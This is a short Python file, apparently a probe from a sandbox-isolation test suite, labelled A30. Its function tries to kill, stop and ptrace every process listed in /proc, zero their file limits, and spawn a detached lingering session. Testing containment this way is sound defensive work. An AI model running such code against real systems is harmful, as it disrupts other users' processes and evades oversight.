"""A30: signal, stop, trace and reprioritise the session and everybody else

Stopped by: the session is another user's, and as the first process of its namespace deaf to its children.
"""

import ctypes
import os
import resource
import signal

LIBC = ctypes.CDLL(None, use_errno=True)


def attacked(numbers):
    for number in [int(name) for name in os.listdir("/proc") if name.isdigit()] + [-1, 0, 1, os.getppid()]:
        if number in (os.getpid(), 0, -1):
            continue
        for sign in (signal.SIGSTOP, signal.SIGKILL, signal.SIGSEGV, signal.SIGCHLD, signal.SIGALRM, 34, 64):
            try:
                os.kill(number, sign)
                print("GOT a signal through to", number)
            except OSError:
                continue
        try:
            resource.prlimit(number, resource.RLIMIT_NOFILE, (0, 0))
            print("GOT the limits of", number)
        except OSError:
            pass
        if LIBC.syscall(101, 16, number, 0, 0) != -1:  # ptrace
            print("GOT", number)
    LIBC.prctl(1, signal.SIGKILL)  # PR_SET_PDEATHSIG
    LIBC.prctl(36, 1)  # PR_SET_CHILD_SUBREAPER
    if os.fork() == 0:
        os.setsid()
        os.fork()
        signal.pause()
    return numbers
